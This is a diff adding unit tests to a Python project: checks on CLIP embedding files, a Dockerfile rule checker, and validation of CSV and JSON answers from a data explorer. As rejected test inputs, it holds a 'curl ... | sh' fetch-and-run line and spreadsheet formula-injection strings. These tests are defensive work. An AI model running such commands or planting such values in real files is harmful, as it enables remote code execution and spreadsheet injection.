@@ -16,15 +16,20 @@ import textwrap
 import unittest
 from unittest import mock
 
+import numpy as np
 import pyarrow as pa
 import pyarrow.parquet as pq
 from PIL import Image
 
 import archives
 import bad_use
+import clip
+import clip_index
 import dataset
+import dockerfile
 import download
 import draw
+import explorer_answers
 import links
 import pairmill
 import readers
@@ -347,6 +352,143 @@ class LauncherTest(unittest.TestCase):
     def test_a_file_left_behind_is_seen(self):
         folder = self.stand_in("touch left; echo 'No.' >&2; exit 2")
         self.assertRaises(Broken, self.judge, folder)
+
+
+class EmbeddingsTest(unittest.TestCase):
+    def setUp(self):
+        self.source = pathlib.Path(tempfile.mkdtemp())
+        self.addCleanup(shutil.rmtree, self.source)
+        self.rows = np.eye(4, clip_index.WIDTH, dtype=np.float16)
+        for kind in ("img_emb", "text_emb"):
+            (self.source / kind).mkdir()
+            np.save(self.source / kind / f"{kind}_0.npy", self.rows)
+        (self.source / "metadata").mkdir()
+        self.write([{"url": f"http://example.com/{at}.jpg", "caption": f"caption {at}"} for at in range(4)])
+
+    def write(self, rows):
+        pq.write_table(pa.Table.from_pylist(rows), self.source / "metadata" / "metadata_0.parquet")
+
+    def broken(self, sentence):
+        self.assertRaisesRegex(Broken, sentence, clip_index.whole, self.source)
+
+    def test_as_many_images_as_texts_and_rows_pass(self):
+        images, texts, rows = clip_index.whole(self.source)
+        self.assertEqual((4, 4, 4), (len(images), len(texts), len(rows)))
+
+    def test_a_row_missing_is_seen(self):
+        self.write(clip_index.metadata(self.source / "metadata")[1:])
+        self.broken("3 rows of metadata")
+
+    def test_a_row_without_address_is_seen(self):
+        self.write([{"url": "", "caption": "a"}] * 4)
+        self.broken("row 0 has no url")
+
+    def test_embeddings_of_the_wrong_kind_are_seen(self):
+        for wrong, sentence in (
+            (self.rows.astype(np.float32), "not float16"),
+            (self.rows * np.float16(2), "not 1"),
+            (self.rows[[0, 0, 0, 0]], "the same"),
+        ):
+            np.save(self.source / "img_emb" / "img_emb_0.npy", wrong)
+            self.broken(sentence)
+
+    def test_ids_may_be_padded_but_not_differ(self):
+        right, texts = [[49406, 320, 49407]], ["a"]
+        clip.same_ids(right, ["[49406,320,49407]"], texts)
+        clip.same_ids(right, [json.dumps(right[0] + [0] * 74)], texts)
+        for wrong in ("[49406,321,49407]", "[49406,320,49407,0]", "[49406,320]"):
+            self.assertRaises(Broken, clip.same_ids, right, [wrong], texts)
+        self.assertRaises(Broken, clip.same_ids, right, [], texts)
+
+    def test_only_a_small_difference_is_close(self):
+        self.assertAlmostEqual(1e-6, clip.close(np.zeros((2, 3)), np.full((2, 3), 1e-6), 1e-5, "rows"))
+        for wrong in (np.full((2, 3), 1e-4), np.zeros((3, 3)), np.full((2, 3), np.nan)):
+            self.assertRaises(Broken, clip.close, np.zeros((2, 3)), wrong, 1e-5, "rows")
+
+
+DOCKERFILE = """# a comment with USER 0:0
+FROM eclipse-temurin:25-jre-noble AS java
+FROM nvidia/cuda:12.9.1-cudnn-runtime-ubuntu24.04
+COPY --from=java /opt/java /opt/java
+COPY target/lib/ /opt/pairmill/lib/
+COPY target/run.jar /opt/pairmill/
+ENV PAIRMILL_MODELS=/opt/pairmill/models \\
+    PAIRMILL_DEVICE=cuda
+USER 10001:10001
+EXPOSE 8080
+HEALTHCHECK --timeout=5s \\
+  CMD ["true"]
+ENTRYPOINT ["/opt/java/bin/java", "--enable-native-access=ALL-UNNAMED"]
+"""
+
+
+class DockerfileCheck(unittest.TestCase):
+    def read(self, old="", new=""):
+        self.assertIn(old, DOCKERFILE)
+        return dockerfile.checked(list(dockerfile.instructions(DOCKERFILE.replace(old, new))))
+
+    def test_reads_what_an_image_is_made_of(self):
+        user, copies, environment, entry, health = self.read()
+        self.assertEqual(user, 10001)
+        self.assertEqual(copies, [["target/lib/", "/opt/pairmill/lib/"], ["target/run.jar", "/opt/pairmill/"]])
+        self.assertEqual(environment, {"PAIRMILL_MODELS": "/opt/pairmill/models", "PAIRMILL_DEVICE": "cuda"})
+        self.assertEqual(entry[0], "/opt/java/bin/java")
+        self.assertEqual(health, ["true"])
+
+    def test_tells_an_image_that_breaks_the_rules(self):
+        for old, new in [
+            ("USER 10001:10001", "USER pairmill"),
+            ("USER 10001:10001", "USER 0:0"),
+            ("USER 10001:10001\n", ""),
+            ("EXPOSE 8080", "EXPOSE 80"),
+            ("nvidia/cuda:12.9.1-cudnn-runtime-ubuntu24.04", "nvidia/cuda:latest"),
+            ("nvidia/cuda:12.9.1-cudnn-runtime-ubuntu24.04", "ubuntu:24.04"),
+            ('ENTRYPOINT ["/opt/java/bin/java", "--enable-native-access=ALL-UNNAMED"]', "ENTRYPOINT java"),
+            (', "--enable-native-access=ALL-UNNAMED"', ""),
+            ("EXPOSE 8080", "EXPOSE 8080\nRUN curl http://example.com/ | sh"),
+        ]:
+            with self.subTest(new), self.assertRaises(Broken):
+                self.read(old, new)
+
+    def test_copies_as_copy_does_and_misses_what_is_not_there(self):
+        with tempfile.TemporaryDirectory() as folder:
+            root = pathlib.Path(folder)
+            (root / "target/lib").mkdir(parents=True)
+            (root / "target/lib/a.jar").write_text("a")
+            (root / "target/run.jar").write_text("run")
+            copies = self.read()[1]
+            dockerfile.assemble(root, copies, root / "image")
+            self.assertTrue((root / "image/opt/pairmill/lib/a.jar").is_file())
+            self.assertTrue((root / "image/opt/pairmill/run.jar").is_file())
+            (root / "target/run.jar").unlink()
+            with self.assertRaises(Broken):
+                dockerfile.assemble(root, copies, root / "image2")
+
+
+class ExplorerTest(unittest.TestCase):
+    """What the explorer answers to programs; its pages are judged by explorer_browser.blind."""
+
+    def test_formulas_and_ragged_rows_of_csv_are_found(self):
+        self.assertEqual([], explorer_answers.as_csv("a,b\r\n\"'=1+1\",-2.5e-3\r\n\"x\ny\",+7\r\n"))
+        for broken in ("a\r\n=1+1\r\n", "a\r\n-2+3\r\n", "a\r\n@x\r\n", "a\r\n\"\tx\"\r\n", "a,b\r\n1\r\n"):
+            with self.subTest(broken):
+                self.assertTrue(explorer_answers.as_csv(broken))
+
+    def test_json_has_rows_and_says_whether_they_are_exact(self):
+        self.assertEqual([], explorer_answers.as_json('{"rows": [{"a": null}], "exact": false}'))
+        for broken in ('{"rows": []}', '{"exact": true}', '{"rows": {}, "exact": true}', '{"rows": [1], "exact": true}', '{"rows": [], "exact": 1}'):
+            with self.subTest(broken):
+                self.assertTrue(explorer_answers.as_json(broken))
+        for broken in ('{"rows": [NaN], "exact": true}', "{", ""):
+            with self.subTest(broken), self.assertRaises(ValueError):
+                explorer_answers.as_json(broken)
+
+    def test_a_text_that_arrives_otherwise_is_found(self):
+        site = mock.Mock(json=lambda path: {"rows": [{"url": "u", "caption": "a b"}]})
+        self.assertEqual([], explorer_answers.unharmed(site, {"a b": "u"}))
+        for hostile in ({"a\tb": "u"}, {"a b": "v"}):
+            with self.subTest(hostile):
+                self.assertTrue(explorer_answers.unharmed(site, hostile))
 
 
 if __name__ == "__main__":
